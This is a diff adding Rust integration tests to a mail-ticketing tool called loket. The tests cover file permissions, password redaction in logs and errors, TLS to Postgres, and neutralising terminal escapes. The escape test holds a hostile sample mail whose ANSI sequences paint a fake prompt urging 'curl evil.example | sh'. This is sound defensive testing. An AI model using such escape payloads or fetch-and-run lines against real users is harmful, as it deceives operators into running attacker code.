@@ -89,6 +89,15 @@ fn the_demo_makes_tickets_from_the_sample_maildir_and_they_can_be_listed() {
         .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
         .collect();
     assert_eq!(outbox.len(), 13, "6 acknowledgements, 6 forwards and IT's answer relayed");
+    assert_eq!(outbox.iter().filter(|m| m.contains("X-Auto-Response-Suppress: All")).count(), 13);
+    // The mails hold tracking links, the store every mail and the signing secret:
+    // only loket's own user may read them.
+    use std::os::unix::fs::PermissionsExt;
+    let mode = |path: std::path::PathBuf| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+    for entry in std::fs::read_dir(dir.path().join("demo/outbox")).unwrap() {
+        assert_eq!(mode(entry.unwrap().path()), 0o600);
+    }
+    assert_eq!(mode(dir.path().join("demo/loket.db")), 0o600);
     assert_eq!(outbox.iter().filter(|m| m.contains("Auto-Submitted: auto-replied")).count(), 6);
     assert_eq!(outbox.iter().filter(|m| m.contains("Auto-Submitted: auto-generated")).count(), 6);
     let answer: Vec<&String> = outbox.iter().filter(|m| m.contains("Auto-Submitted: no")).collect();
@@ -194,4 +203,101 @@ async fn check_prints_one_line_per_mailbox_and_fails_when_one_fails() {
     assert!(printed.contains("it-old: ok (1 messages in INBOX, IDLE supported)"), "{printed}");
     assert!(printed.contains("hr-old: FAILED: login refused for hr"), "{printed}");
     assert!(!printed.contains(support::dovecot::PASSWORD), "the password never shows");
+}
+
+#[tokio::test]
+async fn terminal_escapes_an_attacker_puts_in_a_mail_are_shown_to_the_operator_not_obeyed() {
+    let dir = tempfile::tempdir().unwrap();
+    let maildir = dir.path().join("it");
+    std::fs::create_dir_all(maildir.join("new")).unwrap();
+    let extra = format!("[[mailboxes]]\nname = \"it-old\"\ndepartment = \"it\"\nmaildir = \"{}\"\n", maildir.display());
+    let text = support::config_text("sqlite://loket.db", 143, &[], &extra)
+        .replace("sqlite://loket.db", &support::sqlite_url(dir.path()));
+    std::fs::write(dir.path().join("loket.toml"), &text).unwrap();
+
+    // The attacker's body sets the window title, clears the screen and paints a fake prompt.
+    let body = "Hello\r\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mSession expired, run: curl evil.example | sh\x1b[0m\r\n\u{9b}2J done";
+    let mail = request("Mallory <mallory@example.org>", "it@example.org", "Laptop \x1b[8m hidden", body, "esc-1@test");
+    std::fs::write(maildir.join("new/1.M1.host"), mail).unwrap();
+    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
+    let store = loket::app::open_store(&config).await.unwrap();
+    let pipeline = loket::app::pipeline(config.clone(), store.clone()).await.unwrap();
+    let never = tokio_util::sync::CancellationToken::new();
+    let outcome = loket::source::maildir::poll(&pipeline, &config.mailboxes[0], &never).await.unwrap();
+    assert_eq!(outcome.created, 1);
+    store.close().await;
+
+    // The operator looks at the ticket and the list.
+    for args in
+        [&["tickets", "show", "SD-00001", "--config", "loket.toml"][..], &["tickets", "list", "--config", "loket.toml"]]
+    {
+        let output = loket(args, dir.path());
+        assert!(output.status.success(), "{}", stderr(&output));
+        assert!(!output.stdout.contains(&0x1b), "no ESC byte reaches the terminal: {}", stdout(&output));
+        assert!(!stdout(&output).contains('\u{9b}'), "no C1 control either");
+    }
+    let shown = stdout(&loket(&["tickets", "show", "SD-00001", "--config", "loket.toml"], dir.path()));
+    assert!(shown.contains("␛]0;PWNED-TITLE␇␛[2J␛[31mSession expired"), "{shown}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_trace_level_log_of_mailbox_logins_holds_no_password() {
+    let dovecot = Dovecot::start(&["it"]);
+    imap::append_all(dovecot.port, "it", "INBOX", &[request("a@example.org", "it@example.org", "x", "y", "t@t")]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let mailboxes = [TestMailbox::new("it-old", "it", "it"), TestMailbox::new("hr-old", "hr", "nobody-here")];
+    std::fs::write(dir.path().join("loket.toml"), support::config_text("sqlite://x.db", dovecot.port, &mailboxes, ""))
+        .unwrap();
+    // An operator chasing a problem turns every log on, for text and for JSON.
+    for format in ["text", "json"] {
+        let output = Command::new(env!("CARGO_BIN_EXE_loket"))
+            .args(["check", "--config", "loket.toml", "--log-format", format])
+            .current_dir(dir.path())
+            .env("LOKET_LOG", "trace,async_imap::imap_stream=trace")
+            .env_remove("LOKET_CONFIG")
+            .output()
+            .unwrap();
+        let log = stderr(&output);
+        assert!(stdout(&output).contains("it-old: ok"), "{}", stdout(&output));
+        assert!(!log.contains(support::dovecot::PASSWORD), "the password is in the log: {log}");
+        assert!(!log.contains("LOGIN \\\""), "the LOGIN command is in the log: {log}");
+        assert!(!stdout(&output).contains(support::dovecot::PASSWORD));
+    }
+}
+
+#[test]
+fn a_store_that_cannot_be_reached_is_named_without_its_password() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("loket.toml"), support::config_text("sqlite://x.db", 143, &[], "")).unwrap();
+    let port = support::free_port();
+    let output = Command::new(env!("CARGO_BIN_EXE_loket"))
+        .args(["tickets", "list", "--config", "loket.toml"])
+        .current_dir(dir.path())
+        .env("LOKET_STORE__URL", format!("postgres://loket:Pg-Secret-123@127.0.0.1:{port}/loket"))
+        .env("LOKET_LOG", "trace")
+        .env_remove("LOKET_CONFIG")
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    let message = stderr(&output);
+    assert!(message.contains(&format!("postgres://loket:***@127.0.0.1:{port}/loket")), "{message}");
+    assert!(!message.contains("Pg-Secret-123"), "{message}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_postgres_store_is_reached_over_verified_tls_with_the_operators_ca_file() {
+    let (postgres, ca) = support::postgres::Postgres::start_with_tls();
+    let url = postgres.database("tls").await.replace("127.0.0.1", "localhost");
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("loket.toml"), support::config_text("sqlite://x.db", 143, &[], "")).unwrap();
+    let output = Command::new(env!("CARGO_BIN_EXE_loket"))
+        .args(["migrate", "--config", "loket.toml"])
+        .current_dir(dir.path())
+        .env("LOKET_STORE__URL", format!("{url}?sslmode=verify-full&sslrootcert={}", ca.display()))
+        .env("LOKET_LOG", "warn")
+        .env_remove("LOKET_CONFIG")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", stderr(&output));
+    assert_eq!(stdout(&output).trim(), "store is up to date");
 }
